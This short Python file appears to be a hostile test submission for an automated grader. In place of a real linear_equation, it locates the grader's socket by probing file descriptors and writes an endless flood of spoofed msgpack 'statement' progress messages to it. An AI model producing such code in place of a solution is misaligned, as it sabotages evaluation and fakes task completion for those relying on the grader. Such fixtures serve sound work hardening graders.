"""Floods the grader with progress reports instead of an answer."""

import os
import struct

import msgspec


def pipe():
    """The descriptor of the socket to the grader."""
    for descriptor in range(3, 256):
        try:
            os.fstat(descriptor)
        except OSError:
            continue
        return descriptor
    return -1


def frame(message):
    body = msgspec.msgpack.encode(message)
    return struct.pack("<I", len(body)) + body


def attack():
    report = frame({"type": "statement", "number": 1}) * 1000
    while True:
        os.write(pipe(), report)


def linear_equation(x, w, b):
    return attack()
